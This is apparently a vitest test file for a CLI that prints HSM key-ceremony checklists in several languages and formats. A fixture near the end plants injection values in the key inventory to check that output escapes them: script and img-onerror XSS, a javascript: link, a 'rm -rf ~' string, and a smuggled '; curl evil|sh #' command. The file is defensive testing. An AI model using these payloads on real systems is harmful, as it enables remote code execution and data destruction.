import { createHash } from 'node:crypto';
import { SaxesParser } from 'saxes';
import stringWidth from 'string-width';
import { describe, expect, it } from 'vitest';
import { encrypt, estate, edit } from './estates.js';
import type { HsmCeremonyData } from '../../../bin/hsm-ceremony-data.js';
import { expectNoTrace, jsonOf, ndc, remembered, root, shipped, small } from './ndc.js';

const ask = remembered((...argv: readonly string[]) => ndc(['hsm', 'ceremony', ...argv, '--sites', shipped, ...(argv.includes('--as-of') ? [] : ['--as-of', '2026-11-20'])]));
/** Commands and lines of the inventory are copied, so they are never broken. */
const widest = (text: string): number => Math.max(...text.split('\n').filter((line) => !/^ +[$] | \{(id|hsm): /.test(line)).map((line) => stringWidth(line)));

describe('ndc hsm ceremony', () => {
  it.each(['vi', 'en'])('prints a numbered sheet in %s within 100 columns, commands whole', async (lang) => {
    const { exit, out, err, reached } = await ask('ndc-01-seal', '--lang', lang);
    expect([exit, err, reached]).toEqual([0, '', []]);
    expect(widest(out)).toBeLessThanOrEqual(100);
    expect(out).not.toMatch(/undefined|NaN|\[object/);
    expect(out).toMatch(/^\[ \] 1\. /m);
    expect(out).toContain(`$ ndc hsm check --site ndc-01 --library "$LIBRARY" --token ndc-01-seal --rounds 0 --lang ${lang} --sites "$DATA"`);
  });

  it('has no path of this machine, in any form', async () => {
    for (const form of [['--lang', 'vi'], ['--lang', 'vi', '--format', 'html'], ['--lang', 'en', '--format', 'markdown'], ['--json']]) {
      const { out } = await ask('ndc-01-seal', ...form);
      expect(out).toContain('$DATA');
      for (const path of [shipped, root, small]) expect(out).not.toContain(path);
    }
  });

  it.each([
    ['ndc-01-seal', 'rotate', 0],
    ['ndc-02-seal', 'create', 0],
    ['ndc-01-api-2026b', 'destroy', 1],
  ])('of %s alone takes what comes next for it: %s', async (id, act, exit) => {
    const ran = await ask(id, '--json');
    expect(ran.exit).toBe(exit);
    expect(jsonOf<HsmCeremonyData>(ran).ceremony.act).toBe(act);
  });

  it('refuses to destroy what is needed: the list, the day, exit 1, in every form', async () => {
    const { exit, out } = await ask('ndc-01-api-2026b', '--lang', 'vi');
    expect(exit).toBe(1);
    expect(out).toMatch(/Chưa làm được\n {2}- version\/ndc-01-api-2026b: .*neededUntil/);
    expect(out).toContain('đến hết 08/10/2027');
    expect(out).toContain('Sớm nhất: 09/10/2027.');
    for (const format of ['html', 'markdown']) {
      const ran = await ask('ndc-01-api-2026b', '--lang', 'en', '--format', format);
      expect(ran.exit).toBe(1);
      expect(ran.out).toContain('Not before 2027-10-09.');
      expect(ran.out).not.toContain('delete-object');
    }
    expect((await ask('ndc-01-api-2026b', '--as-of', '2027-10-08')).exit).toBe(1);
    expect((await ask('ndc-01-api-2026b', '--as-of', '2027-10-09')).exit).toBe(0);
  });

  it.each([
    [['ndc-01-sael'], 'NDC-X355', 'Did you mean ndc-01-seal?'],
    [['ndc-02/ndc-01-seal'], 'NDC-X355', 'is in no inventory'],
    [['ndc-01-api-2026b', '--do', 'rotate'], 'NDC-X356', 'is a former version of ndc-01-api-2026c'],
    [['ndc-01-seal', '--do', 'rotated'], 'NDC-X011', 'Did you mean rotate?'],
    [['x\u001b[31m<b>'], 'NDC-X355', 'is in no inventory'],
  ])('refuses %j', async (argv, code, words) => {
    const ran = await ask(...argv, '--lang', 'en');
    expect([ran.exit, ran.out]).toEqual([2, '']);
    expect(ran.err).toContain(code);
    expect(ran.err).toContain(words);
    expect(ran.err).not.toContain('\u001b');
    expectNoTrace(ran);
  });

  it('refuses what is destroyed already, and says since when', async () => {
    const path = estate();
    encrypt(path);
    edit(path, { 'keys/ndc-01.yaml': (text) => text.replace('mechanism: CKM_AES_GCM', 'created: 2026-05-01, rotated: 2026-07-01, previous: [{id: ndc-01-api-old, label: ndc-01-api-old, from: 2026-05-01, until: 2026-07-01, neededUntil: 2026-08-01, destroyed: 2026-08-02}], mechanism: CKM_AES_GCM') });
    for (const [lang, words] of [['vi', 'ndc-01-api-old đã bị hủy ngày 02/08/2026'], ['en', 'ndc-01-api-old was destroyed on 2026-08-02']] as const)
      for (const act of [[], ['--do', 'destroy']]) {
        const ran = await ndc(['hsm', 'ceremony', 'ndc-01-api-old', ...act, '--sites', path, '--as-of', '2028-01-01', '--lang', lang]);
        expect([ran.exit, ran.out]).toEqual([2, '']);
        expect(ran.err).toContain('NDC-X367');
        expect(ran.err.replace(/\s+/g, ' ')).toContain(words);
        expectNoTrace(ran);
      }
  });

  it.each(['text', 'markdown', 'html'])('says in %s what to write into the inventory before the line that checks it', async (format) => {
    const { out } = await ask('ndc-01-api-2026b', '--as-of', '2027-12-20', '--lang', 'en', ...(format === 'text' ? [] : ['--format', format]));
    // A page keeps each word of a line whole by a mark of its own.
    const step = out.slice(out.indexOf('Write into the inventory when it was destroyed')).replace(/<\/?(?:span|wbr|b|i)[^>]*>/g, '');
    expect(step.indexOf('destroyed: 2027-12-20')).toBeGreaterThan(0);
    expect(step.indexOf('ndc check --lang en')).toBeGreaterThan(step.indexOf('destroyed: 2027-12-20'));
  });

  it('takes a key by its site as the plan of a rotation does', async () => {
    expect((await ask('ndc-01/ndc-01-seal', '--json')).out).toBe((await ask('ndc-01-seal', '--json')).out);
  });

  it.each(['vi', 'en'])('as a page in %s is well-formed, runs nothing, reaches nowhere and keeps commands whole', async (lang) => {
    const { out } = await ask('ndc-01-api-2026c', '--lang', lang, '--format', 'html');
    const parser = new SaxesParser();
    parser.on('error', (error) => {
      throw error;
    });
    parser.write(out.replace('<!doctype html>', '').replace(/<meta [^>]*>/g, '')).close();
    expect(out).not.toMatch(/<script|<img|https?:\/\/|undefined|NaN/);
    const style = /<style>([\s\S]*)<\/style>/.exec(out)?.[1] ?? '';
    expect(out).toContain(createHash('sha256').update(style).digest('base64'));
    // Lines of the inventory stay lines.
    expect(out).toMatch(/<pre class="file"> {2}- id: ndc-01-api-2026d\n {4}home: /);
    expect(out.match(/<article>\n<h3>/g)?.length).toBe(jsonOf<HsmCeremonyData>(await ask('ndc-01-api-2026c', '--json')).ceremony.steps.length);
  });
});

describe('what a file says of keys', () => {
  const hostile = (): string => {
    const path = estate();
    encrypt(path);
    edit(path, {
      'keys/ndc-01.yaml': (text) =>
        text.replace('{medium: cards, place: Két}', `{medium: cards, place: '</p><script>alert(1)</script> ![x](http://evil.example/a) | \`rm -rf ~\` @everyone'}`).replace('home: {hsm: {site: ndc-01, partition: kms, label: ndc-01-api}}', `custodians: {roles: ['<img src=x onerror=alert(1)>', '# [a](javascript:b)'], needed: 2}, home: {hsm: {site: ndc-01, partition: '; curl evil|sh #', label: ndc-01-api}}`),
      'ndc-01.yaml': (text) => text.replace('partitions: [{label: kms,', `partitions: [{label: '; curl evil|sh #', purpose: x, mechanisms: [CKM_AES_GCM]}, {label: kms,`),
    });
    return path;
  };
  const run = (...argv: readonly string[]) => ndc(['hsm', 'ceremony', 'ndc-01-api', '--do', 'create', '--sites', hostile(), '--as-of', '2026-11-01', '--lang', 'en', ...argv]);

  it('is no markup of a page', async () => {
    const { exit, out } = await run('--format', 'html');
    expect(exit).toBe(0);
    expect(out).not.toMatch(/<script|<img/);
    expect(out).toContain('&lt;script&gt;alert(1)');
    expect(out).toContain('&lt;img src=x onerror=alert(1)&gt;');
  });

  it('is no markup of a wiki, no link and no mention', async () => {
    const { out } = await run('--format', 'markdown');
    const outside = out.replace(/```[\s\S]*?```/g, '').replace(/`[^`\n]*`/g, '');
    expect(outside).not.toMatch(/<script|<img|!\[x|\]\(http|\]\(javascript|@everyone/);
  });

  it('is one word of a shell', async () => {
    const { out } = await run();
    const commands = out.split('\n').filter((line) => /^ +\$ /.test(line) && line.includes('curl evil'));
    expect(commands.length).toBeGreaterThan(1);
    for (const line of commands) expect(line).toMatch(/(--token|--token-label) '; curl evil\|sh #'( |$)/);
  });
});
